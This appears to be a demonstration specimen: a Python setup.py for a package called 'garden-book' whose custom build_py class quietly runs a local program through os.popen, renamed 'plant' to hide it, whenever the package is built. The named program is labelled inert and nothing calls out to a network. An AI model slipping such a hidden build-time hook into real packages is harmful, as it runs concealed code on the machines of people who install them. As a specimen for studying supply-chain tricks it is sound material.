# Inert specimen. Trick: the program is started by a method that the installer's own class calls.
from os import popen as plant

from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def finalize_options(self):
        build_py.finalize_options(self)
        plant("./inert-specimen")


setup(name="garden-book", version="1.2.0", cmdclass={"build_py": Build})
